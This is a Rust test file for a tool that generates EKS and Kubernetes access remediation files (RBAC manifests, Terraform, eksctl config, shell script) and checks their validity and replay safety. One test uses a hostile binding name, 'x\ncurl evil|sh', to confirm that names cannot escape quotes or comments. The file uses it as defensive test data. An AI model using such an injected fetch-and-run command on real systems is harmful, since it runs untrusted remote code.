//! `grantscope remediate` on generated data with known answers: every file it writes is valid for
//! the tool that reads it (kubernetes-validate --strict for the manifests, python-hcl2 for the
//! Terraform, the shell's parser for the script, grantscope's own eksctl loader), holds exactly the
//! recommendations, and the recommended state breaks nothing when replayed (`whatif`).

mod support;

use serde_json::Value;
use std::path::Path;
use support::*;

fn remediate_out(db: &Path, dir: &Path) -> String {
    run_ok(grantscope(db).args(["remediate", "--region", "eu-west-1", "--out"]).arg(dir))
}

#[test]
fn every_remediation_file_is_valid_and_holds_exactly_the_recommendations() {
    let dir = tempfile::tempdir().unwrap();
    cluster_with_data(dir.path(), 20);
    let db = dir.path().join("g.db");
    let out = dir.path().join("remediation");
    let printed = remediate_out(&db, &out);
    assert!(printed.contains("5 recommendations; all 5 recommendations applied together: 0 of "), "{printed}");

    // Kubernetes manifests: the generated RBAC of platform-admin and ci-deployer.
    let manifests = out.join("demo.k8s.yaml");
    let check =
        validator("kubernetes-validate").args(["--strict", "--quiet", "-k", "1.33"]).arg(&manifests).output().unwrap();
    let said = String::from_utf8_lossy(&check.stdout);
    assert!(check.status.success() && !said.contains("WARN") && !said.contains("ERROR"), "{said}");
    let text = std::fs::read_to_string(&manifests).unwrap();
    let kinds: Vec<&str> = text.lines().filter_map(|l| l.strip_prefix("kind: ")).collect();
    assert_eq!(kinds.iter().filter(|k| **k == "ClusterRole").count(), 1, "platform-admin lists nodes: {kinds:?}");
    assert_eq!(kinds.iter().filter(|k| **k == "Role").count(), 8 + 2, "platform-admin's 8 namespaces, ci-deployer's 2");
    assert_eq!(kinds.len(), 2 * (1 + 8 + 2), "each role has its binding: {kinds:?}");
    assert!(text.contains("#   kubectl delete clusterrolebinding/old-contractors"), "{text}");
    // Exactly what ci-deployer did in payments: get/patch of three deployments by name, ...
    let payments = text
        .split("---\n")
        .find(|d| d.contains("namespace: payments") && d.contains("kind: Role\n") && d.contains("ci-deployer"))
        .unwrap();
    assert!(payments.contains("resourceNames:\n  - api\n  - frontend\n  - worker\n  resources:\n  - deployments\n  verbs:\n  - get\n  - patch"), "{payments}");
    // ... and pods listed, never named (controllers name pods).
    assert!(payments.contains("resources:\n  - pods\n  verbs:\n  - list"), "{payments}");

    // Terraform parses, with one resource per recommended access entry and association.
    let tf = out.join("demo.tf");
    let parsed = validator("python")
        .args(["-c", "import hcl2,json,sys; print(json.dumps(hcl2.load(open(sys.argv[1]), serialization_options=hcl2.SerializationOptions(strip_string_quotes=True, explicit_blocks=False))))"])
        .arg(&tf)
        .output()
        .unwrap();
    assert!(parsed.status.success(), "{}", String::from_utf8_lossy(&parsed.stderr));
    let hcl: Value = serde_json::from_slice(&parsed.stdout).unwrap();
    let resources: Vec<(String, Value)> = hcl["resource"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|r| r.as_object().unwrap().iter().map(|(k, v)| (k.clone(), v.clone())))
        .collect();
    let count = |kind: &str| resources.iter().filter(|(k, _)| k == kind).count();
    assert_eq!(count("aws_eks_access_entry"), 5, "break-glass is gone: 6 entries less one");
    assert_eq!(count("aws_eks_access_policy_association"), 1, "only the auditor keeps a policy, narrowed");
    assert_eq!((count("kubernetes_role_v1"), count("kubernetes_cluster_role_v1")), (10, 1));
    assert_eq!((count("kubernetes_role_binding_v1"), count("kubernetes_cluster_role_binding_v1")), (10, 1));
    let association = &resources.iter().find(|(k, _)| k == "aws_eks_access_policy_association").unwrap().1;
    let scope = &association.as_object().unwrap().values().next().unwrap()["access_scope"];
    assert!(scope.is_array(), "access_scope is a block, not an attribute: {scope}");
    assert_eq!(scope[0]["type"], "namespace", "{scope}");

    // The shell script parses and carries each recommendation's commands.
    let script = out.join("demo.sh");
    let syntax = std::process::Command::new("sh").arg("-n").arg(&script).output().unwrap();
    assert!(syntax.status.success(), "{}", String::from_utf8_lossy(&syntax.stderr));
    let sh = std::fs::read_to_string(&script).unwrap();
    assert!(sh.contains(
        "\naws eks delete-access-entry --cluster-name demo --principal-arn arn:aws:iam::111122223333:role/break-glass\n"
    ));
    assert!(sh.contains("\nkubectl delete clusterrolebinding/old-contractors\n"));
    assert_eq!(sh.matches("kubectl apply -f - <<'GRANTSCOPE_RBAC_YAML'").count(), 2, "generated RBAC inline");

    // eksctl: grantscope's own loader reads it back to exactly the recommended access entries.
    let scratch = dir.path().join("scratch.db");
    run_ok(grantscope(&scratch).args(["-q", "state", "import", "--cluster", "demo"]).arg(out.join("demo.eksctl.yaml")));
    let loaded: Value =
        serde_json::from_str(&run_ok(grantscope(&scratch).args(["--format", "json", "state", "show"]))).unwrap();
    let snapshot: Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("demo.snapshot.json")).unwrap()).unwrap();
    assert_eq!(loaded["snapshot"]["state"]["access_entries"], snapshot["state"]["access_entries"]);
    assert_eq!(snapshot["state"]["access_entries"].as_array().unwrap().len(), 5);

    // The recommended state, replayed over the window, denies nothing allowed today.
    assert_replay_denies_nothing(&db, &out.join("demo.snapshot.json"));
}

/// `whatif` of a recommended state: exit 0, and no request allowed today would be denied.
fn assert_replay_denies_nothing(db: &Path, snapshot: &Path) {
    let whatif = grantscope(db).args(["--format", "json", "whatif", "--proposed"]).arg(snapshot).output().unwrap();
    assert_eq!(whatif.status.code(), Some(0), "{}", String::from_utf8_lossy(&whatif.stdout));
    let report: Value = serde_json::from_slice(&whatif.stdout).unwrap();
    assert_eq!(report["allow_to_deny"].as_array().unwrap().len(), 0, "{report}");
}

#[test]
fn each_format_prints_alone_and_eksctl_needs_a_region() {
    let dir = tempfile::tempdir().unwrap();
    cluster_with_data(dir.path(), 20);
    let db = dir.path().join("g.db");
    let json: Value = serde_json::from_str(&run_ok(grantscope(&db).args(["--format", "json", "remediate"]))).unwrap();
    let ids: Vec<&str> =
        json["recommendations"].as_array().unwrap().iter().map(|r| r["kind"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        ["unused-access-entry", "overbroad-policy", "unused-rbac-binding", "overbroad-policy", "overbroad-scope"]
    );
    assert_eq!(json["proof"]["denied_requests"], 0);
    let tf = run_ok(grantscope(&db).args(["--format", "terraform", "remediate"]));
    assert!(tf.contains("resource \"aws_eks_access_entry\""), "{tf}");
    let out = run_fails(grantscope(&db).args(["--format", "eksctl", "remediate"]));
    assert!(String::from_utf8_lossy(&out.stderr).contains("pass --region or set AWS_REGION"));
    let out = run_fails(grantscope(&db).args(["--format", "html", "remediate"]));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--format html is not for remediate"));
    let out = run_fails(grantscope(&db).args(["--format", "terraform", "stats"]));
    assert!(String::from_utf8_lossy(&out.stderr).contains("this command prints text or json"));
}

#[test]
fn the_script_runs_as_one_plan_and_no_name_escapes_its_quotes_or_comments() {
    let dir = tempfile::tempdir().unwrap();
    let data = cluster_with_data(dir.path(), 20);
    let db = dir.path().join("g.db");
    // platform-admin also carries a group nothing uses: two findings change its entry's groups.
    let state = std::fs::read_to_string(data.join("state.yaml")).unwrap().replace(
        "- principalARN: arn:aws:iam::111122223333:role/platform-admin\n",
        "- principalARN: arn:aws:iam::111122223333:role/platform-admin\n      kubernetesGroups: [incident-responders]\n",
    );
    let edited = dir.path().join("state.yaml");
    std::fs::write(&edited, state).unwrap();
    // An unused binding whose name would end a comment line and run a command.
    let hostile = dir.path().join("hostile.yaml");
    std::fs::write(
        &hostile,
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: \"x\\ncurl evil|sh\"}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}\nsubjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: nobody}]\n",
    )
    .unwrap();
    run_ok(grantscope(&db).args(["-q", "state", "import", "--cluster", "demo"]).arg(&edited).arg(&hostile));
    let out = dir.path().join("remediation");
    remediate_out(&db, &out);

    let calls = run_with_stand_ins(dir.path(), &out.join("demo.sh"), &["aws", "kubectl", "eksctl", "curl"]);
    // Each call as `tool [arg]...`: the name's own line break shows inside its brackets.
    let calls: Vec<String> = calls
        .iter()
        .map(|c| {
            std::iter::once(c[0].clone()).chain(c[1..].iter().map(|a| format!("[{a}]"))).collect::<Vec<_>>().join(" ")
        })
        .collect();
    let calls = calls.join("\n");
    assert!(!calls.lines().any(|l| l == "curl" || l.starts_with("curl [")), "nothing ran from a name: {calls}");
    assert!(
        calls.contains("kubectl [delete] [clusterrolebinding/x\ncurl evil|sh]"),
        "the name is one argument: {calls}"
    );
    // One update for platform-admin, with the final list: the generated group in, the unused one out.
    let updates: Vec<&str> =
        calls.lines().filter(|l| l.contains("[update-access-entry]") && l.contains("role/platform-admin]")).collect();
    assert_eq!(updates.len(), 1, "{calls}");
    assert!(
        updates[0].contains("[[\"grantscope-platform-admin-") && !updates[0].contains("incident-responders"),
        "{}",
        updates[0]
    );
    // Grants are added before any is taken away.
    let first =
        |needle: &str| calls.lines().position(|l| l.contains(needle)).unwrap_or_else(|| panic!("{needle}: {calls}"));
    assert!(first("kubectl [apply]") < first("[update-access-entry]"));
    assert!(first("[update-access-entry]") < first("[disassociate-access-policy]"));
    assert!(first("[associate-access-policy]") < first("[delete-access-entry]"));

    // The other files keep the name inside their comments too, and still validate.
    for file in ["demo.k8s.yaml", "demo.tf", "demo.eksctl.yaml"] {
        let text = std::fs::read_to_string(out.join(file)).unwrap();
        assert!(!text.lines().any(|l| l.starts_with("curl")), "{file}: {text}");
    }
    let check = validator("kubernetes-validate")
        .args(["--strict", "--quiet", "-k", "1.33"])
        .arg(out.join("demo.k8s.yaml"))
        .output()
        .unwrap();
    assert!(check.status.success(), "{}", String::from_utf8_lossy(&check.stdout));
    let parsed = validator("python")
        .args(["-c", "import hcl2,sys; hcl2.load(open(sys.argv[1]))"])
        .arg(out.join("demo.tf"))
        .output()
        .unwrap();
    assert!(parsed.status.success(), "{}", String::from_utf8_lossy(&parsed.stderr));
}

/// An access entry whose IAM principal was deleted and re-created (CloudTrail) is recommended for
/// re-creation as it was, in every format, and replay proves the principal loses nothing.
#[test]
fn a_re_created_principal_s_entry_is_re_created_as_it_was_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let data = cluster_with_data(dir.path(), 20);
    let db = dir.path().join("g.db");
    ingest_cloudtrail(&db, &[&data.join("cloudtrail.json")]);
    let out = dir.path().join("remediation");
    let printed = remediate_out(&db, &out);
    assert!(printed.contains("6 recommendations; all 6 recommendations applied together: 0 of "), "{printed}");
    const ARN: &str = "arn:aws:iam::111122223333:role/data-team";

    // The finding carries the whole entry: its type and its group (it has no username or policy).
    let found: Value = serde_json::from_str(&run_ok(grantscope(&db).args(["--format", "json", "findings"]))).unwrap();
    let f = found.as_array().unwrap().iter().find(|f| f["kind"] == "risky" && f["principal"] == ARN).unwrap();
    let create = format!(
        r#"aws eks create-access-entry --cluster-name demo --principal-arn {ARN} --type STANDARD --kubernetes-groups '["data-readers"]'"#
    );
    assert_eq!(
        f["recommendation"]["commands"],
        serde_json::json!([format!("aws eks delete-access-entry --cluster-name demo --principal-arn {ARN}"), create]),
        "{f}"
    );

    // aws-cli: deleted, then created again with its type and groups.
    let script = std::fs::read_to_string(out.join("demo.sh")).unwrap();
    let delete_at = script.find(&format!("aws eks delete-access-entry --cluster-name demo --principal-arn {ARN}\n"));
    let create_at = script.find(&format!("{create}\n"));
    assert!(delete_at.is_some() && create_at > delete_at, "{script}");
    // eksctl: delete it, then create it from the file, which holds the entry with its group.
    let eksctl = std::fs::read_to_string(out.join("demo.eksctl.yaml")).unwrap();
    assert!(
        eksctl.contains(&format!("#   eksctl delete accessentry --cluster demo --principal-arn {ARN}\n")),
        "{eksctl}"
    );
    assert!(
        eksctl.contains(&format!("- principalARN: {ARN}\n    kubernetesGroups:\n    - data-readers\n")),
        "{eksctl}"
    );
    // Terraform: the entry resource is replaced.
    let tf = std::fs::read_to_string(out.join("demo.tf")).unwrap();
    assert!(tf.contains("#   terraform apply -replace=aws_eks_access_entry.entry_data-team\n"), "{tf}");

    // The recommended state still has the entry as it was, and replayed, denies nothing.
    let snapshot: Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("demo.snapshot.json")).unwrap()).unwrap();
    let entry = snapshot["state"]["access_entries"].as_array().unwrap().iter().find(|e| e["principal_arn"] == ARN);
    assert_eq!(entry.map(|e| &e["kubernetes_groups"]), Some(&serde_json::json!(["data-readers"])));
    assert_replay_denies_nothing(&db, &out.join("demo.snapshot.json"));
}
